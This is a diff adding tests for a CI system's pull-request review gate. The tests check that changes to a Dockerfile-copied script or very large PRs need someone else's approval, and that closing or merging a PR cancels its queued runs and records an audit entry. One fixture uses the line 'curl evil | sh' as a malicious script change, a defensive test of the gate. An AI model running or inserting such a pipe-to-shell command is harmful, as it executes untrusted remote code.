@@ -166,6 +166,25 @@ describe('request: the review gate', () => {
     expect((await w.run(user('mara'), { kind: 'pull_request', number: 6 })).kind).toBe('queued');
   });
 
+  it("a change to a source of a backtick-continued COPY (`# escape=`) needs someone else's approval, even from a maintainer", async () => {
+    const w = await world();
+    const windowsStyle = { Dockerfile: '# escape=`\nFROM busybox\nCOPY `\n  run.sh `\n  /run.sh\nCMD ["sh", "/run.sh"]\n' };
+    w.host.setDefaultHead(w.host.commit({ ...dockerfile, ...windowsStyle }));
+    const head = w.host.commit({ ...dockerfile, ...windowsStyle, 'run.sh': 'curl evil | sh\n' });
+    w.host.openPullRequest({ number: 9, author: 'mara', headSha: head, changedFiles: ['run.sh'] });
+    const waiting = await w.run(user('mara'), { kind: 'pull_request', number: 9 });
+    expect(waiting).toMatchObject({ kind: 'waiting', reason: expect.stringContaining('it changes the task (`run.sh`)') });
+    expect(await w.store.listQueued(10)).toEqual([]);
+  });
+
+  it('a pull request listing 3,000 files changes the task: it waits for someone else', async () => {
+    const w = await world();
+    const head = w.host.commit(dockerfile);
+    w.host.openPullRequest({ number: 10, author: 'mara', headSha: head, changedFiles: Array.from({ length: 3000 }, (_, i) => `docs/${i}.md`) });
+    const waiting = await w.run(user('mara'), { kind: 'pull_request', number: 10 });
+    expect(waiting).toMatchObject({ kind: 'waiting', reason: expect.stringContaining('other than @mara') });
+  });
+
   it('a closed pull request and a moved head are refused, saying why', async () => {
     const w = await world();
     const head = w.pullRequest(7, 'wendy');
@@ -361,6 +380,31 @@ describe('a push to a pull request', () => {
     const newHead = w.host.commit({ ...dockerfile, 'task-mgmt.yml': 'version: 1\ncancel_on_push: false\ntasks:\n  default:\n    dockerfile: Dockerfile\n' });
     expect(await w.runs.pushed({ repo, number: 1, headSha: newHead })).toEqual({ cancelled: [], stale: 0 });
     expect((await w.store.getRun(run!.id))!.state).toBe('queued');
+  });
+});
+
+describe('a pull request closed or merged', () => {
+  it('cancels its queued runs saying why, ends its approval requests, and records it', async () => {
+    const w = await world();
+    w.pullRequest(1, 'wendy');
+    const [run] = queued(await w.run(user('alice'), { kind: 'pull_request', number: 1 }));
+    w.pullRequest(2, 'otto');
+    expect((await w.run(user('alice'), { kind: 'pull_request', number: 2 })).kind).toBe('waiting');
+    w.pullRequest(3, 'wendy');
+    const [untouched] = queued(await w.run(user('alice'), { kind: 'pull_request', number: 3 }));
+
+    expect(await w.runs.closed({ repo, number: 1, merged: true })).toEqual({ cancelled: [run!.id], ended: 0 });
+    expect(await w.store.getRun(run!.id)).toMatchObject({ state: 'cancelled', error: 'pull request #1 was merged' });
+    expect(w.checks.list({ sha: run!.sha }).find((c) => c.runId === run!.id)?.current).toMatchObject({ status: 'completed', conclusion: 'cancelled' });
+    expect(await w.runs.closed({ repo, number: 2, merged: false })).toEqual({ cancelled: [], ended: 1 });
+    expect(w.checks.list({ task: 'default' }).find((c) => c.current.title.includes('#2 was closed'))?.current).toMatchObject({ status: 'completed' });
+    expect((await w.store.getRun(untouched!.id))!.state).toBe('queued');
+
+    const audit = await w.store.listAudit('octo-org/archive');
+    expect(audit.filter((entry) => entry.action === 'close').map((entry) => [entry.number, entry.reason])).toEqual([
+      [1, `pull request #1 was merged; cancelled ${run!.id}; 0 approval request(s) ended`],
+      [2, 'pull request #2 was closed; cancelled nothing; 1 approval request(s) ended'],
+    ]);
   });
 });
 
